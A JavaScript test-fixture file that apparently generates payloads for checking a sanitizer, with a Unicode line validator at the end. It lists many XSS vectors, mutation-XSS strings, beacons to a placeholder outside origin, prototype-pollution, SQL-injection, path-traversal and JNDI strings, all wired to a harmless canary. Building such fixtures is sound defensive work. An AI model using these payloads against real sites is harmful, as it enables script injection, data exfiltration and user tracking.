// What people with bad intent write where others read it, made from classes of attack: each class is a few vectors
// times the contexts that they try to break out of. CALL stands for a call of the canary, ELSEWHERE for an origin
// that is not ours.

/** Closes what the text may stand in: attributes, elements of raw text, comments, scripts. */
const contexts = ["", '"', "'", "`", '">', "'>", "-->", "]]>", "</p>", "</title>", "</style>"];
const rawText = ["</script>", "</textarea>", "</noscript>", "</template>", "</iframe>", "</xmp>"];

const elements = [
  "<script>CALL</script>",
  "<ScRiPt >CALL</sCrIpT\t>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<script src=ELSEWHERE/a.js></script>",
  "<img src=x onerror=CALL>",
  "<img/src=x/onerror=CALL//",
  "<IMG SRC=x ONERROR=CALL>",
  "<image src=x onerror=CALL>",
  "<input autofocus onfocus=CALL>",
  "<details open ontoggle=CALL>x",
  "<video src=x onerror=CALL>",
  "<video><source src=x onerror=CALL></video>",
  "<audio src onerror=CALL>",
  "<body onload=CALL>",
  "<iframe srcdoc='<script>parent.CALL</script>'>",
  "<iframe src='javascript:parent.CALL'>",
  "<object data='javascript:CALL'>",
  "<embed src='javascript:CALL'>",
  "<form action='javascript:CALL'><button autofocus>x",
  "<style onload=CALL></style>",
  "<div style=animation:a onanimationstart=CALL>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<base href=ELSEWHERE/>",
  "<marquee onstart=CALL>x</marquee>",
];

const foreignMarkup = [
  "<svg onload=CALL>",
  "<svg/onload=CALL//",
  "<svg><script>CALL</script></svg>",
  "<svg><script href='data:,CALL'/></svg>",
  "<svg><animate onbegin=CALL attributeName=x></svg>",
  "<svg><set onbegin=CALL attributename=x></svg>",
  "<svg><a xlink:href='javascript:CALL'><text>x</a>",
  "<svg><use href='data:image/svg+xml,<svg onload=CALL>'/>",
  "<svg><foreignObject><img src=x onerror=CALL>",
  "<svg><style><img src=x onerror=CALL></style>",
  "<math><mtext><img src=x onerror=CALL>",
  "<math href='javascript:CALL'>x</math>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=CALL>",
  "<?xml-stylesheet href='ELSEWHERE/a.xsl'?><x/>",
];

/** Harmless as parsed once, and something else when written out and parsed again. */
const mutating = [
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
  "<math><mi><table><mglyph><style><img src=x onerror=CALL>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
  "<svg></p><style><a id='</style><img src=x onerror=CALL>'>",
  "<p><svg><title><style></title><img src=x onerror=CALL>",
  "<listing>&lt;img src=x onerror=CALL&gt;</listing>",
  "<template><s><template><s><img src=x onerror=CALL>",
  "<select><template></select><img src=x onerror=CALL>",
  "<a title='&lt;/a&gt;&lt;img src=x onerror=CALL&gt;'>",
  "<!--><img src=x onerror=CALL>-->",
  "<![CDATA[<img src=x onerror=CALL>]]>",
  "<xmp><p title='</xmp><img src=x onerror=CALL>'>",
];

const entities = [
  "&lt;img src=x onerror=CALL&gt;",
  "&#60;img src=x onerror=CALL&#62;",
  "&#x3c;img src=x onerror=CALL&#x3e;",
  "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
  "%3Cscript%3ECALL%3C/script%3E",
  "%253Cimg src=x onerror=CALL%253E",
  "\\u003cimg src=x onerror=CALL\\u003e",
  "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
  "＜script＞CALL＜/script＞",
  "‹img src=x onerror=CALL›",
  "<ſcript>CALL</ſcript>",
];

const handlers = [
  '" onmouseover="CALL',
  "' onfocus='CALL' autofocus='",
  "` onpointerenter=`CALL",
  '" autofocus tabindex=0 onfocus="CALL',
  "x onclick=CALL",
  '" style="animation:x" onanimationend="CALL',
  '" formaction="javascript:CALL',
  '" srcdoc="<script>CALL</script>',
  '" srcset="ELSEWHERE/s.png 2x',
  '" href="javascript:CALL',
  '" ping="ELSEWHERE/ping',
];

const scripts = [
  "';CALL;'",
  '";CALL;"',
  "`;CALL;`",
  "\\';CALL;//",
  "${CALL}",
  "*/CALL/*",
  "//\\u000aCALL",
  "</script><script>CALL</script>",
  "<!--<script>CALL",
  ");CALL;(",
  "}CALL;{",
];

const addresses = [
  "javascript:CALL",
  "JaVaScRiPt:CALL",
  "javascript&colon;CALL",
  "javascript%3ACALL",
  "java&#115;cript:CALL",
  "jav&Tab;ascript:CALL",
  "javascript://x%0aCALL",
  "vbscript:CALL",
  "data:text/html,<script>CALL</script>",
  "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMCk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload=CALL>",
  "blob:ELSEWHERE/1",
  "view-source:ELSEWHERE",
];
/** How an address becomes something to click or to show. */
const links = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">x</a>`,
];

/** What would tell somebody else that, and from where, it was read. */
const beacons = [
  "ELSEWHERE/b.png",
  "HOST/b.png",
  "![x](ELSEWHERE/b.png)",
  "[x]: ELSEWHERE/b.png",
  "<img src=ELSEWHERE/b.png>",
  "<img srcset='ELSEWHERE/b.png 1x'>",
  "<img src=HOST/b.png>",
  "<picture><source srcset=ELSEWHERE/b.png><img></picture>",
  "<video poster=ELSEWHERE/b.png>",
  "<video autoplay src=ELSEWHERE/b.mp4>",
  "<audio autoplay src=ELSEWHERE/b.ogg>",
  "<track default src=ELSEWHERE/b.vtt>",
  "<iframe src=ELSEWHERE/b>",
  "<object data=ELSEWHERE/b>",
  "<embed src=ELSEWHERE/b>",
  "<input type=image src=ELSEWHERE/b.png>",
  "<link rel=stylesheet href=ELSEWHERE/b.css>",
  "<link rel=preload as=image href=ELSEWHERE/b.png>",
  "<link rel=prefetch href=ELSEWHERE/b>",
  "<link rel=preconnect href=ELSEWHERE>",
  "<link rel=dns-prefetch href=HOST>",
  "<link rel=icon href=ELSEWHERE/b.ico>",
  "<link rel=manifest href=ELSEWHERE/b.json>",
  "<meta http-equiv=refresh content='0;url=ELSEWHERE/b'>",
  "<body background=ELSEWHERE/b.png>",
  "<table background=ELSEWHERE/b.png>",
  "<div style='background:url(ELSEWHERE/b.png)'>",
  "<style>@import 'ELSEWHERE/b.css';</style>",
  "<style>*{background:url(ELSEWHERE/b.png)}</style>",
  "<style>@font-face{font-family:x;src:url(ELSEWHERE/b.woff)}</style>",
  "<style>li:after{content:url(ELSEWHERE/b.png)}</style>",
  "url(ELSEWHERE/b.png)",
  "red;background:url(ELSEWHERE/b.png)",
  "<svg><image href=ELSEWHERE/b.png>",
  "<svg><use href=ELSEWHERE/b.svg#x>",
  "<svg><feImage href=ELSEWHERE/b.png>",
  "<script type=module>import 'ELSEWHERE/b.js'</script>",
  "<script>fetch('ELSEWHERE/b')</script>",
  "<script>navigator.sendBeacon('ELSEWHERE/b')</script>",
  "<script>new WebSocket('ws:HOST/b')</script>",
  "<script>new EventSource('ELSEWHERE/b')</script>",
  "<script>location='ELSEWHERE/b'</script>",
  "ws:HOST/b",
  "stun:127.0.0.1:9",
  "turn:127.0.0.1:9?transport=udp",
  "mailto:x@y.example?body=CALL",
  "\\\\127.0.0.1\\share\\b.png",
  "file:///etc/passwd",
];

/** Names that code looks up on objects, forms and windows. */
const clobbers = ["forms", "__probe", "attributes", "body", "getElementById", "cookie", "nodeName"];
const clobbering = [
  (name) => `<a id=${name}>`,
  (name) => `<form id=${name}><input name=${name}>`,
  (name) => `<img name=${name}>`,
];

const keys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "toJSON",
  "then",
  "length",
  "key",
  "ref",
  "$$typeof",
  "__defineGetter__",
  "__lookupSetter__",
  "undefined",
  "null",
  "NaN",
  "[object Object]",
];
const pollution = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  "__proto__[polluted]=yes",
  "__proto__.polluted=yes",
  "constructor.prototype.polluted=yes",
  "constructor[prototype][polluted]=yes",
  '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}',
];

/** What a template or a translation would fill in or look up. */
const templates = [
  "{{name}}",
  "{{- name}}",
  "{{count}}",
  "{{constructor.constructor('CALL')()}}",
  "$t(app.name)",
  '$t(app.name, {"a": 1})',
  "$&$&$1$`$'",
  "$$",
  "<0>x</0><1/>",
  "<%= CALL %>",
  "#{CALL}",
  "[[CALL]]",
  "{%raw%}CALL{%endraw%}",
  "%s%n%d%x",
  "{0}{}",
  "\\u{1f600}\\n\\0",
];

const elsewhere = [
  "'; DROP TABLE accounts; --",
  '" OR ""="',
  '=HYPERLINK("ELSEWHERE/b")',
  "@SUM(1+1)|cmd",
  "$(CALL)",
  "| CALL #",
  "..%2f..%2f..%2fetc%2fpasswd",
  "{jndi:ldap:HOST/b}",
  "**x** _x_ ~~x~~ `x` # x",
  "> x",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'ELSEWHERE/b'>]>",
  "BEGIN:VCALENDAR",
];

/** Letters that are odd and honest: they have to come through as they are. */
const scriptsOfTheWorld = [
  "محمد بن سلمان (3) 12:30",
  "שלום עולם 42 + 1",
  "नि\u200dम क्\u200dष",
  "می\u200cخواهم",
  "👩\u200d👩\u200d👧\u200d👦 👩🏽\u200d🚀",
  "❤\ufe0f\u200d🔥 ☺\ufe0e",
  "🏴\u200d☠\ufe0f 🇫🇷",
  "Ｚoé ﬁn ½ ㎏",
  "ﷺ﷽",
  "ᠠ\u180bᠨ",
  "𝕬𝖓𝖓𝖆 𝔄",
  "Аnna with a Cyrillic А",
  "I\u0307stanbul ıI",
  "ß ẞ ﬀ",
  "x\u20e3 1\ufe0f\u20e3",
  "á vs a\u0301",
  `z${"\u0351\u0334\u036d".repeat(8)}algo`,
  "W".repeat(79),
  "ﷺ".repeat(60),
  "🤯".repeat(70),
  "Donaudampfschifffahrtsgesellschaft".repeat(2),
];

/** Characters that hide, reorder or break: nobody's name, nobody's message. */
const hidden = [
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u007f",
  "\u0085",
  "\u00ad",
  "\u034f",
  "\u061c",
  "\u115f",
  "\u17b4",
  "\u180e",
  "\u200b",
  "\u200e",
  "\u200f",
  "\u2028",
  "\u2029",
  "\u202a",
  "\u202b",
  "\u202c",
  "\u202d",
  "\u202e",
  "\u2060",
  "\u2062",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u206a",
  "\u3164",
  "\ue000",
  "\ud800",
  "\udc00",
  "\udfff\ud800",
  "\ufdd0",
  "\ufeff",
  "\uffa0",
  "\ufff0",
  "\ufff9",
  "\ufffe",
  "\u{1bca0}",
  "\u{1d173}",
  "\u{e0041}",
  "\u{e0100}",
  "\u{f0000}",
  "\u{10ffff}",
];

const times = (many, vectors) =>
  many.flatMap((one) =>
    vectors.map((vector) => (typeof one === "function" ? one(vector) : one + vector)),
  );

const classes = {
  element: elements,
  breakout: times([...contexts.slice(1), ...rawText], [elements[0], elements[4], foreignMarkup[0]]),
  svg: foreignMarkup,
  mutation: mutating,
  entity: entities,
  attribute: handlers,
  script: scripts,
  address: times(links, addresses),
  beacon: beacons,
  clobbering: times(clobbering, clobbers),
  key: keys,
  pollution,
  template: templates,
  elsewhere,
  letters: scriptsOfTheWorld,
  hidden: hidden.map((character) => `Ann${character}a`),
};

/** Each once, with the number that it calls the canary with. */
export function payloads(origin) {
  const host = origin.replace(/^http:/, "");
  const all = Object.entries(classes).flatMap(([kind, vectors]) =>
    vectors.map((vector) => ({ kind, vector })),
  );
  return all.map(({ kind, vector }, number) => ({
    kind,
    number,
    text: vector
      .replaceAll("CALL", `canary(${number})`)
      .replaceAll("ELSEWHERE", origin)
      .replaceAll("HOST", host),
  }));
}

// Told apart from the server's own rule by being written in other words, those of Unicode's properties.
const refusedCharacter =
  /[\p{Cc}\p{Co}\p{Cs}\p{Zl}\p{Zp}\p{Noncharacter_Code_Point}\p{Bidi_Control}\ufff9-\ufffb]/u;
const invisible = /[\p{Default_Ignorable_Code_Point}]/u;
const shaping = /[\u200c\u200d\u180b-\u180d\ufe00-\ufe0f]/gu;

/** A line as everybody sees it, or null when nobody may write it. */
export function lineOf(text, charactersMax) {
  const line = text.replace(/^[\p{Zs}\t\r\n]+|[\p{Zs}\t\r\n]+$/gu, "");
  if (refusedCharacter.test(line) || invisible.test(line.replace(shaping, ""))) return null;
  return [...line].length > charactersMax ? null : line;
}
